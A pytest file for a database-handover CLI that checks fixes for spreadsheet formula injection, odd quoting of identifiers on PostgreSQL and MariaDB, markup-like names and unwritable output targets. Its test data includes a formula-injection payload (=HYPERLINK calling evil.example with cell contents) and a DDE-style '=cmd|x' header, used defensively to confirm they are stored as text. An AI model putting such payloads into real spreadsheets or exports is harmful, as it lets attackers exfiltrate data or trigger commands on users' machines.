"""Defects found by review in the core commands, each shown through the CLI on real files
and the machine's PostgreSQL and MariaDB:

1. no text handover writes to an XLSX becomes a formula (dd-extract, the inventory, the
   shared workbook writer);
2. ``'``, ``%`` and a backtick in table and column names on PostgreSQL and MariaDB
   (the identity reset, verify's quoting, MariaDB's reflected names);
3. names that look like Rich markup or emoji codes are printed as they are;
4. an output folder that cannot be written to and a target file that is no SQLite
   database are one line (exit 2) before anything is done.
"""

from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from handover.cli.main import app

runner = CliRunner()

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
#: text openpyxl would store as a formula or an error cell, or a spreadsheet would
#: read a formula from once edited
RISKY = [FORMULA, "#N/A", "+86 138", "-1+1", "@SUM(A1)", "=1+1"]


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("core-fixes") / "ws"
    res = runner.invoke(app, ["-w", str(path), "init", "--demo"])
    assert res.exit_code == 0, res.output
    return path


@pytest.fixture
def ws(template: Path, tmp_path: Path) -> str:
    """A fresh copy of an initialised demo workspace."""
    shutil.copytree(template, tmp_path / "ws")
    return str(tmp_path / "ws")


def _db(path: Path, *stmts: str) -> Path:
    conn = sqlite3.connect(path)
    for s in stmts:
        conn.execute(s)
    conn.commit()
    conn.close()
    return path


def _ledger(ws: str, action: str) -> int:
    from handover import ledger
    from handover.workspace import open_workspace

    w = open_workspace(ws)
    try:
        return len(ledger.entries(w, action=action))
    finally:
        w.close()


def _formulas(path: Path) -> list[str]:
    """The cells of every sheet of ``path`` that the file stores as formulas."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


# --- 1. no XLSX cell is a formula -------------------------------------------------------------


def test_dd_extract_xlsx_keeps_formula_like_values_as_exact_text(ws: str, tmp_path: Path) -> None:
    values = [RISKY[i % len(RISKY)] if i % 2 else "经营贷" for i in range(20)]
    src = _db(
        tmp_path / "inj.db",
        'CREATE TABLE loans (id integer primary key, product text, "=cmd|x" text)',
    )
    conn = sqlite3.connect(src)
    conn.executemany(
        "INSERT INTO loans VALUES (?, ?, ?)", [(i + 1, v, "x") for i, v in enumerate(values)]
    )
    conn.commit()
    conn.close()
    out = tmp_path / "dd"
    res = runner.invoke(app, ["-w", ws, "dd-extract", str(src), "--out", str(out)])
    assert res.exit_code == 0, res.output
    xlsx = out / "xlsx" / "loans.xlsx"
    assert _formulas(xlsx) == []
    from openpyxl import load_workbook

    sheet = load_workbook(xlsx).worksheets[0]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["id", "product", "=cmd|x"]
    assert [r[1].value for r in rows[1:]] == values  # exact: no prefix added to the value
    assert {r[1].data_type for r in rows[1:]} == {"s"}
    assert rows[2][1].quotePrefix and not rows[1][1].quotePrefix


def test_inventory_xlsx_header_is_text(ws: str, tmp_path: Path) -> None:
    src = tmp_path / "eqhdr.csv"
    src.write_text("id,=cmd|x,姓名,@x\n1,a,张三,b\n2,b,李四,c\n", encoding="utf-8")
    res = runner.invoke(
        app, ["-w", ws, "scan", str(src), "--out", str(tmp_path / "rep"), "--progress", "none"]
    )
    assert res.exit_code == 0, res.output
    (xlsx,) = (tmp_path / "rep").glob("*.xlsx")
    assert _formulas(xlsx) == []
    from openpyxl import load_workbook

    cols = load_workbook(xlsx).worksheets[1]
    names = {r[1].value: r[1].data_type for r in cols.iter_rows(min_row=2)}
    assert names["=cmd|x"] == "s" and names["@x"] == "s"


def test_shared_workbook_writer_keeps_text_and_numbers(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from handover.reports.tables import Sheet, write_workbook

    path = write_workbook(
        tmp_path / "w.xlsx",
        [Sheet("s", ["=h", "n"], [[v, i] for i, v in enumerate(RISKY)], [("=l", "#REF!")])],
        heading="=title",
    )
    assert _formulas(path) == []
    rows = [[c.value for c in r] for r in load_workbook(path).worksheets[0].iter_rows()]
    assert rows[0] == ["=title", None]
    assert rows[1] == ["=l", "#REF!"]
    assert rows[3] == ["=h", "n"]
    assert rows[4:] == [[v, i] for i, v in enumerate(RISKY)]


# --- 2. quotes, % and backticks in names -----------------------------------------------------


def _odd_source(path: Path) -> Path:
    return _db(
        path,
        """CREATE TABLE "it's" (id integer primary key, "col`b" text, v text)""",
        """INSERT INTO "it's" VALUES (1, 'a', 'x'), (2, 'b', NULL)""",
        """CREATE TABLE "percent%_t" ("k%'ey" integer primary key, v text)""",
        """INSERT INTO "percent%_t" VALUES (7, 'p')""",
    )


def test_quote_and_percent_in_names_on_postgresql(ws: str, tmp_path: Path, pg_url: str) -> None:
    src = _odd_source(tmp_path / "odd.db")
    res = runner.invoke(
        app, ["-w", ws, "migrate", str(src), pg_url, "--no-backup", "--reason", "test"]
    )
    assert res.exit_code == 0, res.output
    engine = sa.create_engine(pg_url)
    try:
        with engine.begin() as conn:
            # the identities were moved past the copied keys (setval on the quoted names)
            new = conn.exec_driver_sql("""INSERT INTO "it's" (v) VALUES ('n') RETURNING id""")
            assert new.scalar() == 3
            new = conn.exec_driver_sql(
                """INSERT INTO "percent%%_t" (v) VALUES ('n') RETURNING "k%%'ey\""""
            )
            assert new.scalar() == 8
            conn.exec_driver_sql("""DELETE FROM "it's" WHERE id = 3""")
            conn.exec_driver_sql("""DELETE FROM "percent%%_t" WHERE "k%%'ey" = 8""")
    finally:
        engine.dispose()
    for tables in ("percent%_t", "it's", "percent%_t,it's"):
        res = runner.invoke(app, ["-w", ws, "verify", str(src), pg_url, "-t", tables])
        assert res.exit_code == 0, res.output


def test_mariadb_foreign_keys_with_backticks_are_read(mariadb_url: str) -> None:
    """A MariaDB foreign key whose names hold a backtick is read from the catalogue:
    SQLAlchemy's reading of ``SHOW CREATE TABLE`` dropped it with a warning."""
    from handover.db.reflect import Catalog, ForeignKeyDef

    engine = sa.create_engine(mariadb_url)
    try:
        with engine.begin() as conn:
            for ddl in (
                "CREATE TABLE `par``p` (`i``d` INT PRIMARY KEY)",
                "CREATE TABLE par2 (a INT, b INT, PRIMARY KEY (a, b))",
                "CREATE TABLE `kid``x` (id INT PRIMARY KEY, `p``id` INT, y INT, x INT, "
                "CONSTRAINT `fk``odd` FOREIGN KEY (`p``id`) REFERENCES `par``p` (`i``d`) "
                "ON DELETE CASCADE, "
                "CONSTRAINT fk2 FOREIGN KEY (y, x) REFERENCES par2 (a, b) "
                "ON UPDATE SET NULL ON DELETE NO ACTION)",
            ):
                conn.exec_driver_sql(ddl)
        catalog = Catalog(engine)
        assert catalog.foreign_keys("kid`x") == [
            ForeignKeyDef("fk2", ("y", "x"), "par2", ("a", "b"), None, "SET NULL"),
            ForeignKeyDef("fk`odd", ("p`id",), "par`p", ("i`d",), "CASCADE", None),
        ]
        assert {"fk`odd", "fk2"} <= catalog.constraint_names("kid`x")
        assert catalog.foreign_keys("par2") == []
    finally:
        engine.dispose()


def test_backtick_in_names_on_mariadb(ws: str, tmp_path: Path, mariadb_url: str) -> None:
    src = _odd_source(tmp_path / "odd.db")
    pkg = tmp_path / "pkg"
    res = runner.invoke(app, ["-w", ws, "seal", str(src), "--out", str(pkg), "--progress", "none"])
    assert res.exit_code == 0, res.output
    res = runner.invoke(app, ["-w", ws, "unseal", str(pkg), "--to", mariadb_url])
    assert res.exit_code == 0, res.output

    from handover.db.reflect import Catalog, reflect

    engine = sa.create_engine(mariadb_url)
    try:
        assert Catalog(engine).column_names("it's") == ["id", "col`b", "v"]
        (d,) = reflect(engine, ["it's"])
        assert d.column_names == ["id", "col`b", "v"]
    finally:
        engine.dispose()
    res = runner.invoke(app, ["-w", ws, "verify", str(src), mariadb_url])
    assert res.exit_code == 0, res.output
    res = runner.invoke(app, ["-w", ws, "scan", mariadb_url, "--json", "--out", str(tmp_path)])
    assert res.exit_code == 0, res.output
    assert '"col`b"' in res.stdout and "col``b" not in res.stdout
    again = tmp_path / "again"
    res = runner.invoke(
        app, ["-w", ws, "seal", mariadb_url, "--out", str(again), "--progress", "none"]
    )
    assert res.exit_code == 0, res.output
    back = tmp_path / "back.db"
    res = runner.invoke(app, ["-w", ws, "unseal", str(again), "--to", str(back)])
    assert res.exit_code == 0, res.output
    conn = sqlite3.connect(back)
    assert conn.execute("""SELECT "col`b" FROM "it's" ORDER BY id""").fetchall() == [
        ("a",),
        ("b",),
    ]
    conn.close()


# --- 3. names are printed as they are ------------------------------------------------------


def test_scan_prints_markup_like_names_as_they_are(ws: str, tmp_path: Path) -> None:
    src = tmp_path / "brk.csv"
    src.write_text(
        "id,name[cn],phone[/b],mobile:x:\n"
        "1,张三,13800138000,13800138000\n2,李四,13900139000,13900139000\n",
        encoding="utf-8",
    )
    res = runner.invoke(app, ["-w", ws, "scan", str(src), "--out", str(tmp_path / "r")])
    assert res.exit_code == 0, res.output
    for name in ("name[cn]", "phone[/b]", "mobile:x:"):
        assert name in res.output
    assert "❌" not in res.output


def test_migrate_and_verify_print_markup_like_names(ws: str, tmp_path: Path) -> None:
    src = _db(
        tmp_path / "mk.db",
        'CREATE TABLE "[/b]x:x:" (id integer primary key, "[red]v" text)',
        """INSERT INTO "[/b]x:x:" VALUES (1, 'a')""",
    )
    dst = tmp_path / "mk2.db"
    res = runner.invoke(
        app,
        ["-w", ws, "migrate", str(src), str(dst), "--no-backup", "--reason", "t"],
    )
    assert res.exit_code == 0, res.output
    assert "[/b]x:x:" in res.output  # the progress bar's name and the table's
    res = runner.invoke(app, ["-w", ws, "verify", str(src), str(dst), "--progress", "bars"])
    assert res.exit_code == 0, res.output
    assert "[/b]x:x:" in res.output
    res = runner.invoke(app, ["-w", ws, "verify", str(src), str(dst), "-t", "no:x:[b]"])
    assert res.exit_code == 2
    assert "no:x:[b]" in res.output and "❌" not in res.output


# --- 4. folders and targets that cannot be used ----------------------------------------------


@pytest.fixture
def unwritable(tmp_path: Path) -> Iterator[Path]:
    """A folder nobody can write in: mode 500, and immutable where root would write anyway."""
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    immutable = False
    if os.access(folder, os.W_OK) and shutil.which("chattr"):
        immutable = subprocess.run(["chattr", "+i", str(folder)], check=False).returncode == 0
    try:
        if os.access(folder, os.W_OK):
            pytest.skip("no folder can be made unwritable here (root without chattr)")
        yield folder
    finally:
        if immutable:
            subprocess.run(["chattr", "-i", str(folder)], check=True)
        folder.chmod(0o700)


def test_scan_out_that_is_a_file_is_refused_before_the_scan(ws: str, tmp_path: Path) -> None:
    src = _db(tmp_path / "s.db", "CREATE TABLE t (id integer primary key, name text)")
    afile = tmp_path / "afile"
    afile.write_text("keep", encoding="utf-8")
    for out in (afile, afile / "sub"):
        res = runner.invoke(app, ["-w", ws, "--lang", "en", "scan", str(src), "--out", str(out)])
        assert res.exit_code == 2, res.output
        assert f"--out {out}: cannot write to this folder" in res.output
        assert "Traceback" not in res.output
    assert afile.read_text(encoding="utf-8") == "keep"
    assert _ledger(ws, "scan.run") == 0  # refused before the scan


def test_unwritable_out_folders_are_one_line(ws: str, tmp_path: Path, unwritable: Path) -> None:
    src = _db(
        tmp_path / "s.db",
        "CREATE TABLE t (id integer primary key, name text)",
        "INSERT INTO t VALUES (1, 'a')",
    )
    for out in (unwritable, unwritable / "new"):
        res = runner.invoke(app, ["-w", ws, "--lang", "en", "scan", str(src), "--out", str(out)])
        assert res.exit_code == 2, res.output
        assert f"--out {out}: cannot write to this folder (PermissionError)" in res.output
    out = unwritable / "dd"
    res = runner.invoke(app, ["-w", ws, "--lang", "en", "dd-extract", str(src), "--out", str(out)])
    assert res.exit_code == 2, res.output
    assert f"--out {out}: cannot be created in the folder {unwritable}" in res.output
    pkg = unwritable / "pkg"
    res = runner.invoke(app, ["-w", ws, "--lang", "en", "seal", str(src), "--out", str(pkg)])
    assert res.exit_code == 2, res.output
    assert f"--out {unwritable}: cannot write to this folder (PermissionError)" in res.output
    assert list(unwritable.iterdir()) == []
    assert _ledger(ws, "scan.run") == 0


def test_inventory_reports_into_an_unwritable_folder_are_refused(
    tmp_path: Path, unwritable: Path
) -> None:
    from handover.detect.scan import Inventory
    from handover.errors import BadInput
    from handover.reports.inventory import write_inventory_reports

    inv = Inventory(source="s.db", kind="sqlite", mode="sample", sample=10, seed=1)
    with pytest.raises(BadInput, match="PermissionError"):
        write_inventory_reports(inv, unwritable)


def test_a_target_that_is_no_sqlite_database_is_refused_untouched(ws: str, tmp_path: Path) -> None:
    src = _db(
        tmp_path / "seller.db",
        "CREATE TABLE t (id integer primary key, name text)",
        "INSERT INTO t VALUES (1, 'a')",
    )
    pkg = tmp_path / "pkg"
    res = runner.invoke(app, ["-w", ws, "seal", str(src), "--out", str(pkg), "--progress", "none"])
    assert res.exit_code == 0, res.output
    res = runner.invoke(app, ["-w", ws, "backup", str(src), "--name", "bk"])
    assert res.exit_code == 0, res.output
    victims = {
        "notdb.db": b"hello\n",
        "victim.xlsx": b"PK\x03\x04 a spreadsheet",
        "victim.csv": "姓名,手机\n张三,13800138000\n".encode(),
    }
    for name, data in victims.items():
        (tmp_path / name).write_bytes(data)
    commands = [
        ["migrate", str(src), str(tmp_path / "notdb.db"), "--no-backup", "--reason", "t"],
        ["unseal", str(pkg), "--to", str(tmp_path / "victim.xlsx")],
        ["restore", str(Path(ws) / "packages" / "bk"), "--to", str(tmp_path / "victim.csv")],
    ]
    for args, name in zip(commands, victims, strict=True):
        res = runner.invoke(app, ["-w", ws, "--lang", "en", *args])
        assert res.exit_code == 2, res.output
        assert f"{name}: not a readable SQLite database (file is not a database)" in res.output
        assert "Traceback" not in res.output
    for name, data in victims.items():
        assert (tmp_path / name).read_bytes() == data
    assert _ledger(ws, "package.unseal") == 0 and _ledger(ws, "package.restore") == 0


def test_the_catalogue_of_a_file_that_is_no_database_is_one_line(tmp_path: Path) -> None:
    from handover.db.reflect import Catalog
    from handover.errors import BadInput

    path = tmp_path / "notdb.db"
    path.write_bytes(b"SQLite format 3\x00" + b"\xff" * 200)  # a header, damaged pages
    engine = sa.create_engine(f"sqlite:///{path}")
    try:
        with pytest.raises(BadInput, match=r"notdb\.db: not a readable SQLite database"):
            Catalog(engine).table_names()
    finally:
        engine.dispose()
